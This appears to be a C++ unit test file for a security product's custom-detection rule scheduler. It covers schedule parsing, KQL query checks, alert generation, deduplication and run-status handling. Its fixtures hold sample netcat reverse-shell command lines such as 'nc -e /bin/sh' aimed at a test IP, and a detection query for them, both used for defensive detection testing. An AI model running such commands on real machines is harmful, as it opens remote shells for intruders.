#include "detect/custom_detection.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <set>

#include "common/time.h"
#include "state/sqlite_state_store.h"

namespace ward::detect {
namespace {

namespace fs = std::filesystem;
using std::chrono::hours;
using std::chrono::milliseconds;
using std::chrono::minutes;

constexpr int64_t kMin = 60'000;

TEST(CustomDetectionSchedule, MdePeriodsAndTheirLookbacks) {
  struct Case { const char* period; const char* canonical; int64_t every_min, window_min; };
  for (const Case& c : {Case{"1H", "1H", 60, 240}, Case{"3h", "3H", 180, 720}, Case{"12H", "12H", 720, 2880},
                        Case{"24H", "24H", 1440, 43200}, Case{"5M", "5M", 5, 20}, Case{"1m", "1M", 1, 4}}) {
    auto s = ParseSchedule(c.period);
    ASSERT_TRUE(s) << c.period << ": " << s.error().message();
    EXPECT_EQ(s->period, c.canonical);
    EXPECT_EQ(s->every.count(), c.every_min * kMin) << c.period;
    EXPECT_EQ(s->window.count(), c.window_min * kMin) << c.period;
  }
  auto nrt = ParseSchedule("0", "", std::chrono::seconds(30));
  ASSERT_TRUE(nrt);
  EXPECT_EQ(nrt->every.count(), 30'000);
  EXPECT_EQ(nrt->window.count(), 60 * kMin);
  auto custom = ParseSchedule("1H", "2d");
  ASSERT_TRUE(custom);
  EXPECT_EQ(custom->lookback, "2D");
  EXPECT_EQ(custom->window.count(), 2 * 24 * 60 * kMin);
}

TEST(CustomDetectionSchedule, BadPeriodsAndLookbacksAreRefused) {
  for (const char* p : {"", "2H", "6H", "0M", "1441M", "01H", "1 H", "H", "1S", "PT1H", "-1H", "99999999H"}) {
    auto s = ParseSchedule(p);
    EXPECT_FALSE(s) << p;
    if (!s) {
      EXPECT_NE(s.error().message().find("schedule.period"), std::string::npos) << s.error().message();
    }
  }
  for (const char* l : {"30M", "31D", "1W", "x", "0H"}) {  // below the 1H period, beyond 30 days, malformed
    auto s = ParseSchedule("1H", l);
    EXPECT_FALSE(s) << l;
    if (!s) {
      EXPECT_NE(s.error().message().find("lookbackPeriod"), std::string::npos);
    }
  }
}

TEST(CustomDetectionSchedule, NextRunAndWindowFollowTheLastRun) {
  state::CustomDetectionRule r;
  r.query_modified_ms = 1'000'000;
  Schedule s = *ParseSchedule("1H");
  const milliseconds max = hours(24 * 30);
  EXPECT_EQ(NextRunMs(r, s), 1'000'000);  // never ran: due since it was saved
  const int64_t now = 100 * 60 * kMin;
  EXPECT_EQ(WindowStartMs(r, s, now, max), now - max.count());  // a query's first run looks back 30 days
  r.last_run_ms = r.last_success_ms = now;
  r.last_run_query_ms = r.query_modified_ms;
  EXPECT_EQ(NextRunMs(r, s), now + 60 * kMin);
  EXPECT_EQ(WindowStartMs(r, s, now + 60 * kMin, max), now + 60 * kMin - 240 * kMin);  // steady: the look-back
  // Down for 10 hours: the window reaches back to where the missed runs would have.
  const int64_t late = now + 10 * 60 * kMin;
  EXPECT_EQ(WindowStartMs(r, s, late, max), now + 60 * kMin - 240 * kMin);
  EXPECT_EQ(WindowStartMs(r, s, now + 400 * 24 * 60 * kMin, max), now + 400 * 24 * 60 * kMin - max.count());
  r.query_modified_ms = now + 5;  // an edited query runs at once, over 30 days
  EXPECT_EQ(NextRunMs(r, s), now + 5);
  EXPECT_EQ(WindowStartMs(r, s, now + 10, max), now + 10 - max.count());
  r.is_enabled = false;
  EXPECT_FALSE(NextRunMs(r, s));
}

TEST(CustomDetectionQuery, MustBindAndReturnTheEventColumns) {
  const auto& reg = events::SchemaRegistry::Hunting();
  auto ok = CheckRuleQuery("DeviceProcessEvents | where FileName == 'nc' | project Timestamp, DeviceId, ReportId, FileName", reg);
  ASSERT_TRUE(ok) << ok.error().message();
  EXPECT_EQ(ok->tables, std::vector<std::string>{"DeviceProcessEvents"});
  EXPECT_EQ(&SourceTable(*ok, reg), reg.Find("DeviceProcessEvents"));

  auto missing = CheckRuleQuery("DeviceProcessEvents | project Timestamp, DeviceId", reg);
  ASSERT_FALSE(missing);
  EXPECT_NE(missing.error().message().find("missing: ReportId"), std::string::npos) << missing.error().message();
  auto counted = CheckRuleQuery("DeviceProcessEvents | summarize count() by DeviceId", reg);
  ASSERT_FALSE(counted);
  EXPECT_NE(counted.error().message().find("Timestamp, ReportId"), std::string::npos) << counted.error().message();
  auto typed = CheckRuleQuery("DeviceProcessEvents | extend ReportId = tostring(ReportId)", reg);
  ASSERT_FALSE(typed);
  EXPECT_NE(typed.error().message().find("ReportId as long, not string"), std::string::npos) << typed.error().message();

  kql::QueryError pos;
  auto syntax = CheckRuleQuery("DeviceProcessEvents\n| where FileNam == 'x'", reg, &pos);
  ASSERT_FALSE(syntax);
  EXPECT_EQ(syntax.error().code(), StatusCode::kInvalidArgument);
  EXPECT_EQ(pos.line, 2);
  EXPECT_NE(syntax.error().message().find("FileNam"), std::string::npos) << syntax.error().message();
  EXPECT_NE(syntax.error().message().find("line 2"), std::string::npos) << syntax.error().message();
}

TEST(CustomDetectionQuery, SourceTableOfAUnionIsTheOneSharingMostColumns) {
  const auto& reg = events::SchemaRegistry::Hunting();
  auto u = CheckRuleQuery("union DeviceProcessEvents, DeviceNetworkEvents | project Timestamp, DeviceId, ReportId, RemoteIP, RemoteUrl, RemotePort", reg);
  ASSERT_TRUE(u) << u.error().message();
  EXPECT_EQ(SourceTable(*u, reg).name, "DeviceNetworkEvents");
}

class CustomDetectionTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("ward-custom-" + std::to_string(::getpid()));
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    store_ = std::move(*state::SqliteStateStore::Open((dir_ / "state.db").string()));
    ASSERT_TRUE(store_->CreateTenant({"t", "T", 1}).ok());
    for (char c : {'a', 'b', 'c'}) AddMachine(std::string(40, c));
    events::ColumnarStoreOptions o;
    o.dir = (dir_ / "store").string();
    events_ = std::move(*events::ColumnarStore::Open(o, reg_));
    writer_ = std::make_unique<AlertWriter>(*store_, nullptr, reg_);
    now_ = NowMs();
  }
  void TearDown() override {
    writer_.reset();
    events_.reset();
    store_.reset();
    fs::remove_all(dir_);
  }
  void AddMachine(const std::string& id) {
    state::Machine m;
    m.tenant_id = "t";
    m.id = id;
    m.host_id = "h" + id;
    m.computer_dns_name = "host-" + id.substr(0, 1) + ".corp";
    ASSERT_TRUE(state::Repo<state::Machine>(*store_).Insert(m).ok());
  }
  // A process event `minutes_ago` before the test clock.
  void Process(const std::string& device, int64_t report_id, const std::string& command, int64_t minutes_ago = 1) {
    const events::TableDef& t = *reg_.Find("DeviceProcessEvents");
    events::Row row;
    row.table = t.id;
    row.values.assign(t.columns.size(), std::monostate{});
    row.values[t.Find("Timestamp")] = (now_ - minutes_ago * kMin) * kTicksPerMillisecond;
    row.values[t.Find("DeviceId")] = device;
    row.values[t.Find("DeviceName")] = std::string("name-from-row");
    row.values[t.Find("ActionType")] = std::string("ProcessCreated");
    row.values[t.Find("FileName")] = std::string("nc");
    row.values[t.Find("FolderPath")] = std::string("/usr/bin/nc");
    row.values[t.Find("SHA256")] = std::string(64, 'e');
    row.values[t.Find("ProcessCommandLine")] = command;
    row.values[t.Find("ProcessId")] = report_id + 1000;
    row.values[t.Find("AccountName")] = std::string("www-data");
    row.values[t.Find("ReportId")] = report_id;
    events::RowBatch b;
    b.tenant_id = "t";
    b.device_id = device;
    b.rows.push_back(row);
    ASSERT_TRUE(events_->Append(b).ok());
  }
  state::CustomDetectionRule& AddRule(std::string id, std::string query, std::string period = "5M") {
    state::CustomDetectionRule r;
    r.tenant_id = "t";
    r.id = id;
    r.detector_id = "00000000-0000-0000-0000-00000000000" + id;
    r.display_name = "rule " + id;
    r.query_text = std::move(query);
    r.query_modified_ms = now_;
    r.period = std::move(period);
    r.alert_title = "Netcat shell " + id;
    r.alert_description = "nc -e";
    r.alert_severity = "High";
    r.alert_category = "Execution";
    r.recommended_actions = "Isolate the device";
    r.mitre_techniques = {"T1059", "T1059.004"};
    r.created_ms = r.last_modified_ms = now_;
    EXPECT_TRUE(state::Repo<state::CustomDetectionRule>(*store_).Insert(r).ok());
    rules_.push_back(r);
    return rules_.back();
  }
  std::unique_ptr<CustomDetections> Scheduler(size_t max_alerts = 100) {
    CustomDetectionOptions o;
    o.now_ms = [this] { return now_; };
    o.max_alerts_per_run = max_alerts;
    return std::make_unique<CustomDetections>(*store_, *events_, *writer_, reg_, metrics_, o);
  }
  std::vector<state::Alert> Alerts() { return *state::Repo<state::Alert>(*store_).List("t"); }
  state::CustomDetectionRule Rule(const std::string& id) { return *state::Repo<state::CustomDetectionRule>(*store_).Get("t", id); }

  static constexpr const char* kQuery =
      "DeviceProcessEvents | where ProcessCommandLine has '-e' and FileName == 'nc' "
      "| project Timestamp, DeviceId, ReportId, FileName, FolderPath, SHA256, ProcessCommandLine, ProcessId, AccountName";

  fs::path dir_;
  const events::SchemaRegistry& reg_ = events::SchemaRegistry::Hunting();
  metrics::Registry metrics_;
  std::unique_ptr<state::SqliteStateStore> store_;
  std::unique_ptr<events::ColumnarStore> events_;
  std::unique_ptr<AlertWriter> writer_;
  std::vector<state::CustomDetectionRule> rules_;
  int64_t now_ = 0;
};

TEST_F(CustomDetectionTest, EachRowRaisesAnAlertFromTheTemplateWithEvidence) {
  const std::string a(40, 'a'), b(40, 'b');
  Process(a, 1, "nc -e /bin/sh 203.0.113.9 4444");
  Process(a, 2, "nc -l 4444");  // no match
  Process(b, 1, "nc -e /bin/bash 203.0.113.9 80");
  AddRule("1", kQuery);
  auto s = Scheduler();
  EXPECT_EQ(s->RunDue(), 1u);
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 2u);
  for (const state::Alert& al : alerts) {
    EXPECT_EQ(al.detection_source, "CustomDetection");
    EXPECT_EQ(al.detector_id, rules_[0].detector_id);
    EXPECT_EQ(al.title, "Netcat shell 1");
    EXPECT_EQ(al.severity, "High");
    EXPECT_EQ(al.category, "Execution");
    EXPECT_EQ(al.recommended_action, "Isolate the device");
    EXPECT_EQ(al.mitre_techniques, (std::vector<std::string>{"T1059", "T1059.004"}));
    EXPECT_EQ(al.computer_dns_name, "host-" + al.machine_id.substr(0, 1) + ".corp");  // the device's, not the row's
    EXPECT_EQ(al.event_keys, std::vector<std::string>{al.machine_id + ":1"});
    EXPECT_EQ(al.related_user_name, "www-data");
    std::set<std::string> types;
    for (const state::AlertEvidence& e : al.evidence) types.insert(e.entity_type);
    EXPECT_EQ(types, (std::set<std::string>{"Process", "File", "User"}));
    const state::AlertEvidence& p = al.evidence[0];
    EXPECT_EQ(p.entity_type, "Process");
    EXPECT_EQ(p.file_name, "nc");
    EXPECT_EQ(p.sha256, std::string(64, 'e'));
    EXPECT_EQ(p.process_id, 1001);
    EXPECT_NE(p.process_command_line.find("-e /bin/"), std::string::npos);
    EXPECT_EQ(al.first_event_ms, now_ - kMin);
  }
  auto r = Rule("1");
  EXPECT_EQ(r.last_run_status, "completed");
  EXPECT_EQ(r.last_run_ms, now_);
  EXPECT_EQ(r.alerts_raised, 2);
  EXPECT_TRUE(r.last_run_error_code.empty());
  EXPECT_EQ(s->RunDue(), 0u);  // not due again before its period
}

TEST_F(CustomDetectionTest, OverlappingRunsRestartsAndResolvedAlertsNeverRepeatARow) {
  const std::string a(40, 'a');
  Process(a, 1, "nc -e /bin/sh x 1");
  AddRule("1", kQuery);
  Scheduler()->RunDue();
  ASSERT_EQ(Alerts().size(), 1u);
  // The next run's window (4 periods) still holds the first row; a new row joins the open alert.
  Process(a, 2, "nc -e /bin/sh x 2", 0);
  now_ += 5 * kMin;
  auto s = Scheduler();
  EXPECT_EQ(s->RunDue(), 1u);
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].event_keys, (std::vector<std::string>{a + ":1", a + ":2"}));
  const size_t evidence = alerts[0].evidence.size();
  // An analyst resolves it; the rows come back in the next windows, and after a restart.
  ASSERT_TRUE(state::Repo<state::Alert>(*store_).Mutate("t", alerts[0].id, [](state::Alert& x) {
    x.status = "Resolved";
    return Status::Ok();
  }));
  now_ += 5 * kMin;
  EXPECT_EQ(s->RunDue(), 1u);
  writer_ = std::make_unique<AlertWriter>(*store_, nullptr, reg_);
  now_ += 5 * kMin;
  EXPECT_EQ(Scheduler()->RunDue(), 1u);  // a new scheduler: the seen rows come from the stored alerts
  alerts = Alerts();
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].evidence.size(), evidence);
  EXPECT_EQ(Rule("1").alerts_raised, 2);
  // A new event after all that: a new alert (the old one is resolved), holding only it.
  Process(a, 3, "nc -e /bin/sh x 3", 0);
  now_ += 5 * kMin;
  EXPECT_EQ(Scheduler()->RunDue(), 1u);
  alerts = Alerts();
  ASSERT_EQ(alerts.size(), 2u);
  EXPECT_EQ(alerts[1].event_keys, std::vector<std::string>{a + ":3"});
}

TEST_F(CustomDetectionTest, AFailingRuleRecordsItsErrorAndTheOthersRun) {
  Process(std::string(40, 'a'), 1, "nc -e /bin/sh x 1");
  AddRule("1", "DeviceProcessEvents | where NoSuchColumn == 1");  // stored behind the API's back
  AddRule("2", kQuery);
  AddRule("3", "DeviceProcessEvents | where FileName == 'nc' | extend DeviceId = 'no-such-device' | project Timestamp, DeviceId, ReportId");
  EXPECT_EQ(Scheduler()->RunDue(), 3u);
  auto failed = Rule("1");
  EXPECT_EQ(failed.last_run_status, "failed");
  EXPECT_EQ(failed.last_run_error_code, "queryExecutionFailed");
  EXPECT_NE(failed.last_run_failure_reason.find("NoSuchColumn"), std::string::npos) << failed.last_run_failure_reason;
  EXPECT_EQ(failed.last_success_ms, 0);
  EXPECT_EQ(Rule("2").last_run_status, "completed");
  auto unmatched = Rule("3");
  EXPECT_EQ(unmatched.last_run_status, "partiallyFailed");
  EXPECT_EQ(unmatched.last_run_error_code, "alertReportNotFound");
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].detector_id, rules_[1].detector_id);
}

TEST_F(CustomDetectionTest, AlertsPerRunAreCappedAndTheRestComeNextRun) {
  for (char c : {'a', 'b', 'c'}) Process(std::string(40, c), 1, "nc -e /bin/sh x");
  AddRule("1", kQuery);
  auto s = Scheduler(2);
  s->RunDue();
  EXPECT_EQ(Alerts().size(), 2u);
  auto r = Rule("1");
  EXPECT_EQ(r.last_run_status, "partiallyFailed");
  EXPECT_EQ(r.last_run_error_code, "queryExceededResultSize");
  now_ += 5 * kMin;
  s->RunDue();
  EXPECT_EQ(Alerts().size(), 3u);
  EXPECT_EQ(Rule("1").last_run_status, "completed");
}

TEST_F(CustomDetectionTest, DisabledRulesDoNotRunAndAnEditedQueryRunsAtOnce) {
  Process(std::string(40, 'a'), 1, "nc -e /bin/sh x");
  AddRule("1", kQuery);
  auto s = Scheduler();
  EXPECT_EQ(s->RunDue(), 1u);
  ASSERT_TRUE(state::Repo<state::CustomDetectionRule>(*store_).Mutate("t", "1", [&](state::CustomDetectionRule& r) {
    r.is_enabled = false;
    return Status::Ok();
  }));
  now_ += 60 * kMin;
  EXPECT_EQ(s->RunDue(), 0u);
  ASSERT_TRUE(state::Repo<state::CustomDetectionRule>(*store_).Mutate("t", "1", [&](state::CustomDetectionRule& r) {
    r.is_enabled = true;
    r.query_text = std::string(kQuery) + " | take 10";
    r.query_modified_ms = now_;
    return Status::Ok();
  }));
  now_ += 1000;
  EXPECT_EQ(s->RunDue(), 1u);
  EXPECT_EQ(Rule("1").last_run_query_ms, now_ - 1000);
  EXPECT_EQ(Alerts().size(), 1u);  // the same row under the edited query is still the same event
}

}  // namespace
}  // namespace ward::detect
